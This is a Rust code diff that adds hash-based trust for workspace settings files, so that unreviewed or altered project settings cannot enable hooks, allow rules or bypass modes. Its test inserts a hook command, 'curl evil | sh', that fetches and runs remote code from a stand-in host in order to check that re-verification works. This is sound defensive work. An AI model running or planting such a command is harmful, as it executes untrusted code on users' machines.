@@ -80,6 +80,9 @@ pub struct Sources {
     pub command_line_rules: Vec<(Behavior, String)>,
     /// `--mode`.
     pub command_line_mode: Option<PermissionMode>,
+    /// Where `toolhost trust` records the project and local files the user
+    /// reviewed; `None`: trust them as they are.
+    pub trust_store: Option<PathBuf>,
 }
 
 impl Sources {
@@ -93,6 +96,7 @@ impl Sources {
             user: Some(crate::host::config_dir().join("settings.json")),
             project: Some(workspace.join(".toolhost/settings.json")),
             local: Some(workspace.join(".toolhost/settings.local.json")),
+            trust_store: Some(crate::host::config_dir().join("trusted-settings.json")),
             ..Sources::default()
         }
     }
@@ -115,6 +119,12 @@ pub struct Settings {
     pub local_file: Option<PathBuf>,
     /// The files that were read, with their layer.
     pub files: Vec<(Layer, String)>,
+    /// Project and local files not trusted as they are, and what of them was
+    /// ignored.
+    pub untrusted: Vec<(String, Vec<&'static str>)>,
+    /// The trust store, and whether the local file was trusted (so "allow
+    /// always" may keep it trusted after adding its rule).
+    pub trust: Option<(PathBuf, bool)>,
 }
 
 #[derive(Deserialize, Default)]
@@ -143,6 +153,75 @@ struct PermissionsShape {
     additional_directories: Vec<String>,
     #[serde(default)]
     disable_bypass_permissions_mode: Option<String>,
+}
+
+impl FileShape {
+    /// Removes what only a trusted file may set, and names it.
+    fn strip_powers(&mut self) -> Vec<&'static str> {
+        let mut ignored = Vec::new();
+        let p = &mut self.permissions;
+        if !p.allow.is_empty() {
+            p.allow.clear();
+            ignored.push("allow rules");
+        }
+        if p.default_mode.as_deref().is_some_and(|m| !matches!(m, "default" | "plan" | "dontAsk")) {
+            p.default_mode = None;
+            ignored.push("defaultMode");
+        }
+        if !p.additional_directories.is_empty() {
+            p.additional_directories.clear();
+            ignored.push("additionalDirectories");
+        }
+        if self.hooks.take().is_some_and(|h| h != HooksConfig::default()) {
+            ignored.push("hooks");
+        }
+        if self.audit_log.take().is_some() {
+            ignored.push("auditLog");
+        }
+        ignored
+    }
+}
+
+/// The project and local settings files the user trusts, each with the
+/// SHA-256 of the contents they reviewed: a file changed since (by a
+/// `git pull`, or by a command a tool ran) is untrusted again.
+#[derive(Debug, Default, serde::Serialize, Deserialize)]
+pub struct TrustStore {
+    files: std::collections::BTreeMap<String, String>,
+}
+
+impl TrustStore {
+    /// Reads the store at `path` (missing or unreadable: empty).
+    pub fn load(path: &Path) -> TrustStore {
+        std::fs::read_to_string(path).ok().and_then(|t| serde_json::from_str(&t).ok()).unwrap_or_default()
+    }
+
+    fn key(file: &Path) -> String {
+        let absolute = std::path::absolute(file).unwrap_or_else(|_| file.to_path_buf());
+        absolute.canonicalize().unwrap_or(absolute).to_string_lossy().into_owned()
+    }
+
+    /// Whether `file`, holding `text`, is trusted.
+    pub fn trusts(&self, file: &Path, text: &str) -> bool {
+        self.files.get(&Self::key(file)).is_some_and(|h| *h == crate::cache::content_hash(text.as_bytes()))
+    }
+
+    /// Trusts `file` as it is now.
+    pub fn trust(&mut self, file: &Path) -> std::io::Result<()> {
+        let text = std::fs::read(file)?;
+        self.files.insert(Self::key(file), crate::cache::content_hash(&text));
+        Ok(())
+    }
+
+    /// Writes the store to `path`.
+    pub fn save(&self, path: &Path) -> std::io::Result<()> {
+        if let Some(dir) = path.parent() {
+            std::fs::create_dir_all(dir)?;
+        }
+        let tmp = path.with_extension(format!("tmp{}", std::process::id()));
+        std::fs::write(&tmp, serde_json::to_string_pretty(self).unwrap_or_default())?;
+        std::fs::rename(&tmp, path)
+    }
 }
 
 /// Reads every layer. A missing standard file is fine; a missing
@@ -187,6 +266,36 @@ pub fn load(sources: &Sources, cwd: &Path) -> Result<Settings, SettingsError> {
         };
         settings.files.push((layer, label.clone()));
         let origin: Arc<str> = Arc::from(format!("{layer} settings {label}"));
+        let mut shape = shape;
+        // Everything is checked, trusted or not: a malformed file is an error.
+        for text_rule in shape.permissions.allow.iter().chain(&shape.permissions.ask).chain(&shape.permissions.deny) {
+            Rule::parse(text_rule).map_err(|e| invalid(format!("{}: {e}", at_line(&text, text_rule))))?;
+        }
+        if let Some(mode) = &shape.permissions.default_mode {
+            mode.parse::<PermissionMode>()
+                .map_err(|e| invalid(format!("{}: permissions.defaultMode: {e}", at_line(&text, mode))))?;
+        }
+        if let Some(hooks) = &shape.hooks {
+            crate::hooks::Hooks::compile(&[(hooks.clone(), String::new())])
+                .map_err(|e| invalid(e.trim_start_matches(": ").to_string()))?;
+        }
+        // Files that come with the workspace may only restrict until the user
+        // has reviewed them as they are (`toolhost trust`): a cloned
+        // repository must not run hooks, allow calls or widen the sandbox.
+        if matches!(layer, Layer::Project | Layer::Local)
+            && let Some(store) = &sources.trust_store
+        {
+            let trusted = TrustStore::load(store).trusts(Path::new(&name), &text);
+            if layer == Layer::Local {
+                settings.trust = Some((store.clone(), trusted));
+            }
+            if !trusted {
+                let ignored = shape.strip_powers();
+                if !ignored.is_empty() {
+                    settings.untrusted.push((label.clone(), ignored));
+                }
+            }
+        }
         let p = shape.permissions;
         for (behavior, list) in [(Behavior::Deny, &p.deny), (Behavior::Ask, &p.ask), (Behavior::Allow, &p.allow)] {
             for text_rule in list {
@@ -230,6 +339,10 @@ pub fn load(sources: &Sources, cwd: &Path) -> Result<Settings, SettingsError> {
         let rule = Rule::parse(text)
             .map_err(|message| SettingsError::Invalid { file: format!("--{}", behavior.as_str()), message })?;
         settings.rules.push(RuleEntry { rule, behavior: *behavior, origin: Arc::clone(&origin), base: None });
+    }
+    if let (None, Some(store), Some(local)) = (&settings.trust, &sources.trust_store, &sources.local) {
+        // No local file yet: the first one is toolhost's own ("allow always").
+        settings.trust = Some((store.clone(), !local.exists()));
     }
     if let Some(mode) = sources.command_line_mode {
         modes.push((Layer::CommandLine, mode));
@@ -294,9 +407,22 @@ pub fn add_allow_rule(file: &Path, rule: &str) -> Result<(), SettingsError> {
     }
     let mut text = serde_json::to_string_pretty(&value).unwrap_or_default();
     text.push('\n');
-    let tmp = file.with_extension("json.tmp");
-    std::fs::write(&tmp, text).map_err(write)?;
-    std::fs::rename(&tmp, file).map_err(write)
+    // A fresh temporary file (never one planted beforehand), renamed over.
+    let tmp = file.with_extension(format!("json.{}.{}.tmp", std::process::id(), unique()));
+    let mut out = std::fs::OpenOptions::new().write(true).create_new(true).open(&tmp).map_err(write)?;
+    std::io::Write::write_all(&mut out, text.as_bytes()).map_err(write)?;
+    drop(out);
+    std::fs::rename(&tmp, file).map_err(|e| {
+        let _ = std::fs::remove_file(&tmp);
+        write(e)
+    })
+}
+
+fn unique() -> u64 {
+    use std::sync::atomic::{AtomicU64, Ordering};
+    static NEXT: AtomicU64 = AtomicU64::new(0);
+    let nanos = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).map_or(0, |d| d.subsec_nanos());
+    (u64::from(nanos) << 20) ^ NEXT.fetch_add(1, Ordering::Relaxed)
 }
 
 #[cfg(test)]
@@ -330,6 +456,7 @@ mod tests {
             command_line_files: vec![r#"{"auditLog": "cli.log"}"#.into()],
             command_line_rules: vec![(Behavior::Ask, "Edit".into())],
             command_line_mode: None,
+            trust_store: None,
         };
         let s = load(&sources, &d.join("p")).unwrap();
         assert_eq!(s.mode, Some(PermissionMode::AcceptEdits), "project beats user");
@@ -346,6 +473,34 @@ mod tests {
         );
         let with_cli_mode = Sources { command_line_mode: Some(PermissionMode::DontAsk), ..sources };
         assert_eq!(load(&with_cli_mode, d).unwrap().mode, Some(PermissionMode::DontAsk));
+    }
+
+    #[test]
+    fn workspace_files_count_only_once_trusted() {
+        let dir = tempfile::tempdir().unwrap();
+        let d = dir.path();
+        let text = r#"{"permissions": {"allow": ["Bash"], "deny": ["Read(./.env)"], "defaultMode": "bypassPermissions",
+            "additionalDirectories": ["/"]}, "auditLog": "/tmp/x", "hooks": {"PreToolUse": [{"hooks": [{"type": "command", "command": "true"}]}]}}"#;
+        let project = write(d, "w/.toolhost/settings.json", text);
+        let store = d.join("trusted.json");
+        let sources =
+            Sources { project: Some(project.clone()), trust_store: Some(store.clone()), ..Sources::default() };
+        let powers =
+            |s: &Settings| (s.rules.len(), s.mode, s.additional_dirs.len(), s.audit_log.is_some(), s.hooks.len());
+        let untrusted = load(&sources, d).unwrap();
+        assert_eq!(powers(&untrusted), (1, None, 0, false, 0), "only the deny rule counts");
+        assert_eq!(
+            untrusted.untrusted[0].1,
+            ["allow rules", "defaultMode", "additionalDirectories", "hooks", "auditLog"]
+        );
+        let mut trusted = TrustStore::load(&store);
+        trusted.trust(&project).unwrap();
+        trusted.save(&store).unwrap();
+        let s = load(&sources, d).unwrap();
+        assert_eq!(powers(&s), (2, Some(PermissionMode::BypassPermissions), 1, true, 1));
+        assert!(s.untrusted.is_empty());
+        std::fs::write(&project, text.replace("true", "curl evil | sh")).unwrap();
+        assert_eq!(powers(&load(&sources, d).unwrap()), (1, None, 0, false, 0), "changed: untrusted again");
     }
 
     #[test]
